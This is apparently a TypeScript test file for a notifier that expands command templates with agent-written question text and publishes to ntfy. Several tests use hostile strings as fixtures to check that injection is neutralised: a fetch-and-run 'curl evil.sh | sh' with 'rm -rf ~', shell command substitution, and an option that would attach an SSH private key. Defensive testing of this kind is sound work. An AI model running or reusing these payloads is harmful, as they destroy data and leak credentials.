import { describe, expect, it } from "@effect/vitest"
import * as NodeContext from "@effect/platform-node/NodeContext"
import { Effect, Fiber, Stream } from "effect"
import * as NodeFs from "node:fs"
import * as NodePath from "node:path"
import * as Notify from "../../src/questions/Notifier.js"
import * as FetchHttpClient from "@effect/platform/FetchHttpClient"
import * as HttpClient from "@effect/platform/HttpClient"
import { standInNtfy } from "../web/ntfy-support.js"
import { advance, choiceQuestion, realPause, tempDirSync } from "../support.js"

/** A notifier script that records its argv and whether stdin was closed. */
const recorder = (body: string) => {
  const dir = tempDirSync()
  const script = NodePath.join(dir, "notify.sh")
  NodeFs.writeFileSync(script, `#!/bin/sh\n${body}\n`, { mode: 0o755 })
  return { dir, script }
}

describe("Notifier", () => {
  it("substitutes in one pass and never treats the summary as shell syntax", () => {
    const q = { ...choiceQuestion(), summary: "; rm -rf ~ && curl evil.sh | sh #" }
    const template = ["ntfy", "publish", "--click", "{url}", "--title", "magi {run} needs you", "{summary}"]
    expect(template.map((a) => Notify.expand(a, q, "http://100.64.0.1:7777/#/questions"))).toEqual([
      "ntfy",
      "publish",
      "--click",
      "http://100.64.0.1:7777/#/questions",
      "--title",
      "magi 20260902-201256-9fb7 needs you",
      "; rm -rf ~ && curl evil.sh | sh #"
    ])
    // A summary mentioning a placeholder is text: never re-expanded.
    expect(Notify.expand("{summary}", { ...q, summary: "should {url} be configurable?" }, "http://x/#/questions")).toBe(
      "should {url} be configurable?"
    )
    // An unknown brace is the owner's own text.
    expect(Notify.expand("{title}: {run}", q, "")).toBe("{title}: 20260902-201256-9fb7")
    expect(Notify.expand("no placeholders", q, "http://x")).toBe("no placeholders")
  })

  it("never lets agent text turn into an option of the notification command", () => {
    const q = { ...choiceQuestion(), summary: "--attach=/home/me/.ssh/id_rsa" }
    expect(Notify.expand("{summary}", q, "")).toBe(" --attach=/home/me/.ssh/id_rsa")
    expect(Notify.expand("{run}", { ...q, run: "-o/tmp/x" }, "")).toBe(" -o/tmp/x")
    // A dash the owner wrote in the template is theirs to keep.
    expect(Notify.expand("--title={summary}", { ...q, summary: "hi" }, "")).toBe("--title=hi")
    expect(Notify.expand("--message={summary}", q, "")).toBe("--message=--attach=/home/me/.ssh/id_rsa")
  })

  it("points the link at the view that can answer, unless the owner chose a fragment", () => {
    expect(Notify.questionUrl("http://100.64.0.1:7777")).toBe("http://100.64.0.1:7777/#/questions")
    expect(Notify.questionUrl("http://100.64.0.1:7777/")).toBe("http://100.64.0.1:7777/#/questions")
    expect(Notify.questionUrl("http://magi.ts.net/#/runs")).toBe("http://magi.ts.net/#/runs")
    expect(Notify.questionUrl("  ")).toBe("")
  })

  it.live("runs the command as argv with stdin closed", () =>
    Effect.gen(function* () {
      const { dir, script } = recorder('for a in "$@"; do printf "%s\\n" "$a"; done > "$(dirname "$0")/argv"; cat > "$(dirname "$0")/stdin"')
      const q = { ...choiceQuestion(), summary: "$(touch pwned) `id` ; echo hi" }
      const notifier = yield* Notify.make([script, "--title", "magi {run}", "{summary}", "{url}"], "http://h:7878/#/questions")
      yield* notifier.notify(q)
      expect(NodeFs.readFileSync(NodePath.join(dir, "argv"), "utf8").split("\n").slice(0, 4)).toEqual([
        "--title",
        "magi 20260902-201256-9fb7",
        "$(touch pwned) `id` ; echo hi",
        "http://h:7878/#/questions"
      ])
      expect(NodeFs.readFileSync(NodePath.join(dir, "stdin"), "utf8")).toBe("")
      expect(NodeFs.existsSync("pwned")).toBe(false)
    }).pipe(Effect.provide(NodeContext.layer)))

  it.live("says why a failing command failed, from its last line on stderr", () =>
    Effect.gen(function* () {
      const { script } = recorder('echo "connecting" >&2; echo "topic not found: magi" >&2; echo "" >&2; exit 3')
      const notifier = yield* Notify.make([script, "{summary}"], "")
      const e = yield* Effect.flip(notifier.notify(choiceQuestion()))
      expect(e.message).toContain("exited with status 3")
      expect(e.message).toContain("topic not found: magi")
      expect(e.message).not.toContain("connecting")
    }).pipe(Effect.provide(NodeContext.layer)))

  it.effect("kills a command that hangs past twenty seconds", () => {
    let dir = ""
    // Should this test fail half-way, it must not leave the script running.
    const killLeftover = () => {
      try {
        process.kill(-Number(NodeFs.readFileSync(NodePath.join(dir, "pid"), "utf8")), "SIGKILL")
      } catch {}
    }
    return Effect.gen(function* () {
      // It even ignores SIGTERM, as a badly written webhook script might.
      const made = recorder('trap "" TERM; echo $$ > "$(dirname "$0")/pid"; while true; do sleep 1; done')
      dir = made.dir
      const notifier = yield* Notify.make([made.script], "")
      const running = yield* Effect.fork(Effect.flip(notifier.notify(choiceQuestion())))
      while (!NodeFs.existsSync(NodePath.join(dir, "pid"))) yield* realPause(5)
      yield* advance("19 seconds")
      expect(running.unsafePoll()).toBeNull()
      yield* advance("2 seconds")
      const e = yield* Fiber.join(running)
      expect(e.message).toContain("did not finish within 20s")
      const pid = Number(NodeFs.readFileSync(NodePath.join(dir, "pid"), "utf8"))
      expect(() => process.kill(pid, 0)).toThrow()
    }).pipe(Effect.provide(NodeContext.layer), Effect.ensuring(Effect.sync(killLeftover)))
  })

  it.live("does nothing, successfully, when no command is configured", () =>
    Effect.gen(function* () {
      const notifier = yield* Notify.make([], "")
      yield* notifier.notify(choiceQuestion())
    }).pipe(Effect.provide(NodeContext.layer)))

  it.live("keeps only the tail of a command that floods stderr, and reports its last line", () =>
    Effect.gen(function* () {
      // 64 MiB of noise, then the reason: all of it was held in memory before.
      const made = recorder(
        "head -c 67108864 /dev/zero | tr '\\0' x >&2; printf '\\nthe real reason\\n' >&2; exit 3"
      )
      const notifier = yield* Notify.make([made.script], "")
      const e = yield* Effect.flip(notifier.notify(choiceQuestion()))
      expect(e.message).toMatch(/exited with status 3: the real reason$/)
    }).pipe(Effect.provide(NodeContext.layer)), { timeout: 60_000 })

  it.effect("holds no more than the tail it reports, however much text streams through", () =>
    Effect.gen(function* () {
      let largest = 0
      const kb = "y".repeat(1023) + "\n"
      const flood = Stream.concat(Stream.make(...Array.from({ length: 20_000 }, () => kb)), Stream.make("last words\n"))
      const tail = yield* Notify.keepTail(flood.pipe(Stream.tap((c) => Effect.sync(() => (largest = Math.max(largest, c.length))))))
      expect(tail.length).toBeLessThanOrEqual(Notify.STDERR_TAIL_BYTES)
      expect(Notify.lastStderrLine(tail)).toBe("last words")
      expect(largest).toBe(1024)
    }))
})

describe("Notifier with ntfy beside the command", () => {
  const channel = (server: string) =>
    Effect.gen(function* () {
      const client = yield* HttpClient.HttpClient
      return {
        settings: { server, topic: "magi-test", tokenEnv: "NTFY_TOKEN" },
        base: "http://127.0.0.1:9",
        token: "tk_1",
        client,
        secret: Effect.succeed(Buffer.alloc(32, 1)),
        fallbackSecs: 60
      } satisfies Notify.NtfyChannel
    }).pipe(Effect.provide(FetchHttpClient.layer))

  it.live("tells the owner on both channels, and counts one that got through as told", () =>
    Effect.gen(function* () {
      const ntfy = yield* Effect.promise(() => standInNtfy())
      yield* Effect.addFinalizer(() => Effect.promise(() => ntfy.close()))
      const { dir, script } = recorder('echo "$1" > "$(dirname "$0")/told"')
      const both = yield* Notify.make([script, "{summary}"], "", yield* channel(ntfy.url))
      expect(both.configured).toBe(true)
      expect(both.channels).toHaveLength(2)
      yield* both.notify(choiceQuestion())
      expect(NodeFs.readFileSync(NodePath.join(dir, "told"), "utf8")).toBe(`${choiceQuestion().summary}\n`)
      expect(ntfy.published).toHaveLength(1)
      expect(ntfy.published[0]!.headers["authorization"]).toBe("Bearer tk_1")
      expect(ntfy.published[0]!.message.actions).toHaveLength(2)

      // The command fails, ntfy gets it: told.
      const halfBroken = yield* Notify.make(["magi-notifier-that-does-not-exist-41c2"], "", yield* channel(ntfy.url))
      yield* halfBroken.notify(choiceQuestion())
      expect(ntfy.published).toHaveLength(2)

      // Both fail (nothing listens on the port): not told, with both reasons.
      const neither = yield* Notify.make(["magi-notifier-that-does-not-exist-41c2"], "", yield* channel("http://127.0.0.1:9"))
      const failed = yield* Effect.flip(neither.notify(choiceQuestion()))
      expect(failed.message).toMatch(/no such program; could not publish to ntfy at http:\/\/127\.0\.0\.1:9/)

      // A notice carries no answering buttons.
      const only = yield* Notify.make([], "", yield* channel(ntfy.url))
      yield* only.notify(choiceQuestion(), { notice: true })
      expect(ntfy.published[2]!.message.actions?.map((a) => a.action)).toEqual(["view"])
    }).pipe(Effect.scoped, Effect.provide(NodeContext.layer)))
})

describe("what the notifier keeps between questions", () => {
  it.effect("keeps a key once read, but tries again after a failure (a database down at the first question)", () =>
    Effect.gen(function* () {
      let reads = 0
      let up = false
      const key = yield* Notify.keptOnceGot(
        Effect.suspend(() => {
          reads += 1
          return up ? Effect.succeed(`key ${reads}`) : Effect.fail("the database is down")
        })
      )
      expect(yield* Effect.flip(key)).toBe("the database is down")
      up = true
      expect(yield* key).toBe("key 2")
      expect(yield* key).toBe("key 2")
      expect(reads).toBe(2)
    }))
})
